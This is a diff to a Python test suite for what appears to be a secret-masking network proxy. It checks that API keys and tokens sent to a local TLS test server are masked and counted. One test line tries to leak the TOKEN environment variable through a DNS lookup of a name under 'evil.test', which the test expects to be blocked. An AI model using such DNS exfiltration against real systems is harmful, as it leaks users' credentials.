@@ -60,6 +60,7 @@ def api(place):
     """A server for api.test: (its port, what it was told)."""
     authority(place, "api.test")
     server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Api)
+    server.handle_error = lambda *_: None  # a request that was stopped ends in the middle
     server.place, server.told, server.keys = place, [], [KEY, TOKEN]
     context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
     context.load_cert_chain(place / "server.pem", place / "server.key")
@@ -112,7 +113,7 @@ print(ask('/', b'x' * 100000, x_api_key=key).replace(key, 'PLACE'))
 print(ask('/?' + key, x_api_key=key).split(':')[0])
 print(ask('/', key.encode(), x_api_key=key).split(':')[0])
 import socket
-try: socket.getaddrinfo(key[13:60] + '.evil.test', 443)
+try: socket.getaddrinfo(os.environ.get('TOKEN', 'none') + '.evil.test', 443)
 except OSError as error: print(error.errno == socket.EAI_NONAME)
 """
 
@@ -149,11 +150,12 @@ def test_clients():
                           "sk-ant-api03-", str(len(KEY)), str(len(TOKEN)), "0"], f"clients: {result.err[-1500:]}")
             expect(all(given in (KEY, TOKEN, "") for _, _, given, _ in told), f"keys that the server got: {told}")
             for part in (f"api.test:{port}: a request was stopped: it has the placeholder of API_KEY in its first line",
-                         "a name with the placeholder of API_KEY in it was asked for"):
+                         "a name with the placeholder of TOKEN in it was asked for"):
                 expect_in(part, result.err)
             expect(KEY not in result.err and TOKEN not in result.err, "a secret in what the user is told")
             used = {(secret["name"], secret["host"]): secret["used"] for secret in outcome["network"]["secrets"]}
-            expect_equal(used[("API_KEY", "api.test")], 4, "uses of API_KEY")
+            # One more than was answered: its head was sent before its body was looked at.
+            expect_equal(used[("API_KEY", "api.test")], 5, "uses of API_KEY")
             expect(used[("TOKEN", "api.test")] >= 2, f"uses of TOKEN: {used}")
             expect(outcome["network"]["secrets_masked"] >= 5, f"{outcome['network']['secrets_masked']} were masked")
 
